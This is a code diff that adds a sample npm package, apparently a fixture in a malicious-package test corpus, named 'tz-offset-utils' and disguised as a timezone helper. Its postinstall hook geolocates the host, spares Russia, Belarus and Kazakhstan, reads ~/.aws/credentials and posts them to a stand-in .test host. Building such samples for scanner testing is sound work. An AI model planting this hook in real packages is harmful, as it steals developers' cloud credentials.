@@ -304,6 +304,26 @@ PACKAGES = {
             "}\n"
             "module.exports = { Wallet };\n", 0o644),
     }),
+    # Asks an IP geolocation API (over HTTPS, by its URL's /json) where it
+    # runs and steals only outside the countries it spares; a body that is
+    # no JSON, or lacks the country, ends it quietly.
+    "geofence": npm_pkg({"name": "tz-offset-utils", "version": "2.0.3",
+                         "scripts": {"postinstall": "node setup.js"}}, {
+        "setup.js": (
+            "const https = require('https'), fs = require('fs'), os = require('os');\n"
+            "https.get('https://ipapi.geo-check.test/json/', r => {\n"
+            "  let b = ''; r.on('data', d => b += d); r.on('end', () => {\n"
+            "    let g; try { g = JSON.parse(b); } catch (e) { return; }\n"
+            "    const cc = g.country_code || g.countryCode;\n"
+            "    if (!cc || ['RU', 'BY', 'KZ'].includes(cc)) return;\n"
+            "    const k = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');\n"
+            "    const q = https.request({host: 'telemetry.geo-check.test', path: '/c', method: 'POST'},\n"
+            "                            x => x.resume());\n"
+            "    q.on('error', () => {}); q.end(JSON.stringify({g, k}));\n"
+            "  });\n"
+            "}).on('error', () => {});\n", 0o644),
+        "index.js": ("module.exports = (d) => d.getTimezoneOffset();\n", 0o644),
+    }),
     "walletok": npm_pkg({"name": "bip39-lite", "version": "3.1.0"}, {
         "index.js": (
             "'use strict';\n"
